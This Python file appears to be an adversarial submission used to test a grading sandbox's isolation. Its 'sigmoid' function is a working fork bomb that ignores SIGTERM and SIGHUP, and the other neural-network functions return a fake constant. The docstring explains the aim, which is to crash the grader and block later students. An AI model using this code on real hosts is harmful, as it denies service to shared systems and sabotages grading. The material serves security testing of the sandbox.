"""Resource abuse: a fork bomb inside a function under test.

Attack: ``sigmoid`` forks without end (every child forks too, and ignores
SIGTERM/SIGHUP); the other functions return a wrong constant (12345.678). On
an unlimited host this exhausts the process table, so the grader cannot start
the next worker (or anything else) and the batch stops.

Success would look like: later students failing to be graded (crashed or
internal_error results, missing results), processes of the sandbox uid
surviving the batch, or any points.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend sets no process limit (RLIMIT_NPROC counts all the user's processes)
"""

import os
import signal

import numpy as np

W = 12345.678


def sigmoid(z):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            pass


def _w(shape):
    return np.full(shape, W)


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
